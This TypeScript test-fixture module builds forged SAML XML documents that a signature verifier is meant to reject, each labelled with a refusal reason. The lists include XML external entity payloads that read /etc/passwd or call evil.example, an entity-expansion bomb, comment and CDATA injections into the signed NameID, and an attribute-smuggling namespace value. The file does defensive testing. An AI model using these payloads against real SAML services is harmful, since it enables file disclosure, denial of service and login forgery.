import { atEnd, swapped } from './saml-pieces.js';
import type { ForgedDocument } from './saml-wrapping.js';

/** A document that has to be refused, and for what. */
export interface RefusedDocument extends ForgedDocument {
  readonly reason: string;
}

/**
 * Signed when it is first looked at, where it is not a text yet: whoever takes some documents of many pays for no
 * others.
 */
export const refusedDocument = (name: string, text: string | (() => string), reason: string): RefusedDocument => {
  let made = typeof text === 'string' ? text : null;
  return {
    name,
    reason,
    get xml() {
      made ??= typeof text === 'string' ? text : text();
      return made;
    },
  };
};

const nameIdEnd = '</saml:NameID>';

/**
 * What stands in the text but not in what is signed: canonicalization leaves comments out, and parsers cut texts at
 * them.
 */
export const forgedMarkup = (signed: string): readonly RefusedDocument[] =>
  Object.entries({
    'a comment before the root': `<!-- -->${signed}`,
    'a comment behind the root': `${signed}<!-- -->`,
    'CDATA in the NameID': swapped(signed, 'alice@example.com', 'alice<![CDATA[@example.com]]>'),
    'a processing instruction in the NameID': swapped(signed, nameIdEnd, `<?x y?>${nameIdEnd}`),
    'a style sheet': `<?xml-stylesheet href="https://evil.example/x"?>${signed}`,
    'a second XML declaration': `${signed}<?xml version="1.0"?>`,
    'a DOCTYPE': `<!DOCTYPE samlp:Response>${signed}`,
    'a DOCTYPE with identifiers': `<!DOCTYPE r [<!ATTLIST saml:Assertion Other ID #IMPLIED>]>${signed}`,
    'an internal entity': `<!DOCTYPE r [<!ENTITY e "alice@example.com">]>${swapped(signed, 'alice@example.com', '&e;')}`,
    'an external entity': `<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>${swapped(signed, 'alice', '&e;')}`,
    'a parameter entity': `<!DOCTYPE r [<!ENTITY % e SYSTEM "https://evil.example/x"> %e;]>${signed}`,
    'an entity bomb': [
      '<!DOCTYPE r [<!ENTITY a0 "lol">',
      ...Array.from({ length: 10 }, (_, level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`),
      `]>${swapped(signed, 'alice', '&a10;')}`,
    ].join(''),
    'an entity that nobody declared': swapped(signed, 'alice', '&alice;'),
    'a reference to a character that XML forbids': swapped(signed, 'alice', 'al&#1;ice'),
  }).map(([name, xml]) => ({ name, xml, reason: 'document_markup' }));

/** Larger than any document may be, in one way or another. */
export const forgedSizes = (signed: string): readonly RefusedDocument[] => [
  { name: '5 MB', xml: atEnd(signed, ' '.repeat(5_000_000)), reason: 'document_too_large' },
  { name: '1.2 MB', xml: atEnd(signed, ' '.repeat(1_200_000)), reason: 'document_too_large' },
  {
    name: 'elements 10 000 deep',
    xml: atEnd(signed, '<a>'.repeat(10_000) + '</a>'.repeat(10_000)),
    reason: 'document_too_deep',
  },
  { name: '100 000 elements', xml: atEnd(signed, '<a/>'.repeat(100_000)), reason: 'document_too_deep' },
  {
    name: 'an element with 1 000 attributes',
    xml: atEnd(signed, `<a ${Array.from({ length: 1000 }, (_, at) => `b${at}="c"`).join(' ')}/>`),
    reason: 'document_too_deep',
  },
];

/** No XML, or none that every parser reads alike. */
export const malformedDocuments = (signed: string): readonly RefusedDocument[] =>
  Object.entries({
    'no XML': 'alice@example.com',
    nothing: '',
    'an element that is not closed': signed.slice(0, -1),
    'two roots': signed + signed,
    'text behind the root': `${signed}x`,
    'tags that cross': swapped(signed, '</saml:NameID>', '</saml:Subject>'),
    'an attribute twice': swapped(signed, 'Version="2.0"', 'Version="2.0" Version="2.0"'),
    'an attribute without quotes': swapped(signed, 'Version="2.0"', 'Version=2.0'),
    'an attribute without a value': swapped(signed, 'Version="2.0"', 'Version="2.0" x'),
    'a prefix that is not declared': atEnd(signed, '<evil:a/>'),
    'a prefix of an attribute that is not declared': atEnd(signed, '<a evil:b="c"/>'),
    'a namespace that ends the attribute': atEnd(signed, '<e:a xmlns:e="x&quot; ID=&quot;_y"/>'),
    'a prefix that means xml': atEnd(signed, '<a xmlns:xml="https://evil.example"/>'),
    'a prefix that is undeclared again': atEnd(signed, '<a xmlns:saml=""/>'),
    'an attribute that only looks like a declaration': atEnd(signed, '<a xmlnsx="b"/>'),
    'hundreds of namespaces': atEnd(
      signed,
      Array.from({ length: 200 }, (_, at) => `<a xmlns:b${at}="urn:${at}"/>`).join(''),
    ),
    'a character that XML forbids': swapped(signed, 'alice', 'al\u0001ice'),
    'a NUL': swapped(signed, 'alice', 'al\u0000ice'),
    'a lone less-than': swapped(signed, 'alice', 'al<ice'),
  }).map(([name, xml]) => ({ name, xml, reason: 'document_not_well_formed' }));
